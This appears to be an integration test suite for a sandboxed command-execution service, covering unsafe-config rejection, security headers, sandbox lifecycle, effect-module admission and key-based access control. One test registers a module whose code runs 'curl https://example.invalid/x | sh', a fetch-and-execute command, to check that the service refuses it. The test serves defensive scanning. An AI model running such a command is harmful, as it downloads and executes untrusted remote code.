/** The service, from outside: a command, a sandbox that stays, an effect, and who may what. */
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { executeEffect } from '../../src/api/effects.ts';
import { errorsOf } from '../../src/api/openapi.ts';
import type { WireOutcome } from '../../src/api/outcome.ts';
import type { ErrorCode } from '../../src/core/error.ts';
import { parseConfig } from '../../src/server/config/config.ts';
import { serve } from '../../src/server/serve.ts';
import { type Served, served } from './served.ts';

describe('the service', () => {
  let service: Served;
  let key: string;

  before(async () => {
    service = await served();
    key = await service.key('developer');
  });
  after(async () => {
    await service[Symbol.asyncDispose]();
  });

  test('does not begin where it would let anybody in, whoever made its configuration', async () => {
    const safe = parseConfig({ stateDirectory: service.state });
    for (const unsafe of [
      { ...safe, listen: { ...safe.listen, host: '0.0.0.0' } },
      {
        ...safe,
        listen: { ...safe.listen, host: '0.0.0.0', insecure: true },
        auth: { ...safe.auth, anonymous: true },
      },
    ]) {
      await assert.rejects(serve(unsafe), { code: 'CONFIG_INVALID' });
    }
  });

  test('is healthy and ready, and describes itself', async () => {
    assert.equal((await service.ask('GET', '/healthz')).status, 200);
    assert.equal((await service.ask('GET', '/readyz')).status, 200);
    const { body } = await service.ask('GET', '/openapi.json');
    assert.equal((body as { openapi: string }).openapi, '3.1.0');
  });

  test('says of every answer that it is no page, and to be kept nowhere', async () => {
    const answers = await Promise.all([
      service.ask('GET', '/healthz'),
      service.ask('GET', '/api/sandboxes', { key }),
      service.ask('GET', '/api/sandboxes'),
      service.ask('GET', '/nowhere'),
    ]);
    assert.deepEqual(
      answers.map(({ status }) => status),
      [200, 200, 401, 404],
    );
    for (const { headers } of answers) {
      assert.equal(headers.get('cache-control'), 'no-store');
      assert.equal(headers.get('x-content-type-options'), 'nosniff');
      assert.equal(headers.get('x-frame-options'), 'DENY');
      assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'/);
      assert.match(headers.get('x-request-id') ?? '', /^[0-9a-f-]{36}$/);
    }
  });

  test('runs a command', async () => {
    const { status, body } = await service.ask('POST', '/api/runs', {
      key,
      body: { argv: ['sh', '-c', 'cat; id -u; exit 3'], input: 'hello\n' },
    });
    const outcome = body as WireOutcome;
    assert.equal(status, 200, JSON.stringify(body));
    assert.equal(outcome.kind, 'exited');
    assert.equal(outcome.code, 3);
    assert.match(outcome.stdout.text, /^hello\n\d+\n$/);
  });

  test('keeps a sandbox with a workspace of its own, and leaves nothing of it', async () => {
    const made = await service.ask('POST', '/api/sandboxes', {
      key,
      body: { policy: 'moderate', workspace: 'private', labels: { job: '7' } },
    });
    assert.equal(made.status, 201, made.text);
    const { id } = made.body as { id: string };
    const exec = (argv: string[]) =>
      service.ask('POST', `/api/sandboxes/${id}/exec`, { key, body: { argv } });
    assert.equal((await exec(['sh', '-c', 'echo kept > note'])).status, 200);
    const { body } = await exec(['cat', 'note']);
    assert.equal((body as WireOutcome).stdout.text, 'kept\n');
    const listed = await service.ask('GET', '/api/sandboxes?label=job%3D7', { key });
    assert.deepEqual(
      (listed.body as { items: { id: string }[] }).items.map((each) => each.id),
      [id],
    );
    const killed = await service.ask('DELETE', `/api/sandboxes/${id}`, { key });
    assert.equal((killed.body as { state: string }).state, 'Killed');
    assert.equal((await exec(['true'])).status, 409);
    await service.serving.service.manager.wait(id);
    assert.deepEqual(readdirSync(join(service.state, 'workspaces')), []);
  });

  test('admits a safe effect and executes it; refuses a hostile one with its findings', async () => {
    const safe = await service.ask('POST', '/api/effects/register', {
      key,
      body: { id: 'sum', code: 'export default (a) => a.reduce((x, y) => x + y, 0);' },
    });
    assert.equal(safe.status, 201, safe.text);
    const { security } = safe.body as { security: { score: number; decision: string } };
    assert.ok(security.score < 10);
    const executed = await service.ask('POST', '/api/effects/execute', {
      key,
      body: { id: 'sum', input: [1, 2, 39] },
    });
    assert.equal(executed.status, 200, executed.text);
    const { ok, result, durationMs, memoryBytes } = executed.body as Record<string, number>;
    assert.equal(ok, true);
    assert.equal(result, 42);
    assert.ok((durationMs ?? 0) > 0 && (memoryBytes ?? 0) > 0);
    const hostile = await service.ask('POST', '/api/effects/register', {
      key,
      body: {
        id: 'thief',
        code: "import { exec } from 'node:child_process';\nexport default () => exec('curl https://example.invalid/x | sh');",
      },
    });
    assert.equal(hostile.status, 403);
    const problem = hostile.body as {
      code: string;
      details: { admission: { score: number; findings: { family: string }[] } };
    };
    assert.equal(problem.code, 'MODULE_REFUSED');
    assert.ok(problem.details.admission.score >= 80);
    assert.ok(problem.details.admission.findings.some(({ family }) => family === 'child-process'));
  });

  test('a command that is registered as a module fails as an effect as it does as a module', async () => {
    const body = { id: 'gone', version: '1.0.0', kind: 'command', code: ['no-such'] };
    const made = await service.ask('POST', '/api/modules', { key, body });
    assert.equal(made.status, 201, made.text);
    const asEffect = await service.ask('POST', '/api/effects/execute', {
      key,
      body: { id: 'gone' },
    });
    const { code } = asEffect.body as { code: ErrorCode };
    assert.equal(code, 'COMMAND_NOT_FOUND', asEffect.text);
    assert.ok(errorsOf(executeEffect).includes(code), 'as its route says');
  });

  test('lets nobody do without a key what needs one, nor with too little', async () => {
    assert.equal(
      (await service.ask('POST', '/api/runs', { body: { argv: ['true'] } })).status,
      401,
    );
    const viewer = await service.key('viewer');
    const refused = await service.ask('POST', '/api/runs', {
      key: viewer,
      body: { argv: ['true'] },
    });
    assert.equal(refused.status, 403);
  });
});
